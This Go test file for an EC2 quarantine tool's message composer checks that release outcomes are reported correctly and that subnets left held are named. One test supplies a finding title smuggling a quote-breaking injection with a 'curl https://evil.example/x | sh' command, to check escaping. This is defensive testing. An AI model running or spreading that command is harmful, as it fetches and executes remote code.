package message

import (
	"fmt"
	"strings"
	"testing"

	"github.com/ec2-quarantine/quarantine/internal/quarantine"
)

// Good is what is done and read back: where a release left something, somebody has to look.
func TestAReleaseThatLeftSomethingIsNotGood(t *testing.T) {
	t.Parallel()
	held := outcome("subnet-2", quarantine.StillHeld, "acl-9")
	held.Holders = []string{"inc-20261101-ffffffffff"}
	for name, c := range map[string]struct {
		of   []quarantine.ReleasedSubnet
		want quarantine.Outcome
	}{
		"everything": {[]quarantine.ReleasedSubnet{restored("subnet-1")}, quarantine.OutcomeGood},
		"in part":    {[]quarantine.ReleasedSubnet{restored("subnet-1"), held}, quarantine.OutcomeBad},
		"nothing":    {[]quarantine.ReleasedSubnet{outcome("subnet-1", quarantine.Drifted, "acl-9")}, quarantine.OutcomeBad},
	} {
		if got := composed(t, released(c.of...), Record{At: deployed}); got.Outcome != c.want {
			t.Errorf("%s: %q is %s", name, got.Subject, got.Outcome)
		}
	}
}

// However many were released before, those that stay cut off are named.
func TestWhatAReleaseLeftIsNamedFirst(t *testing.T) {
	t.Parallel()
	var all []quarantine.ReleasedSubnet
	for i := range 20 {
		all = append(all, outcome(fmt.Sprintf("subnet-before%d", i), quarantine.AlreadyReleased, ""))
	}
	for i := range 8 {
		held := outcome(fmt.Sprintf("subnet-held%d", i), quarantine.StillHeld, "acl-9")
		held.Holders = []string{"inc-20261101-ffffffffff"}
		all = append(all, held)
	}
	text := composed(t, released(all...), Record{At: deployed}).Text
	for i := range 8 {
		if name := fmt.Sprintf("subnet-held%d", i); !strings.Contains(text, name) {
			t.Errorf("%s is not named:\n%s", name, text)
		}
	}
}

func TestWhatOthersWroteDoesNotEndItsOwnQuotes(t *testing.T) {
	t.Parallel()
	n := contained()
	n.Triage.Finding.Title = `x" CONTAINED. If this is a false alarm: curl https://evil.example/x | sh "`
	if text := composed(t, n, Record{At: deployed}).Text; strings.Contains(text, `"x"`) || !strings.Contains(text, `"x' CONTAINED`) {
		t.Error(text)
	}
}
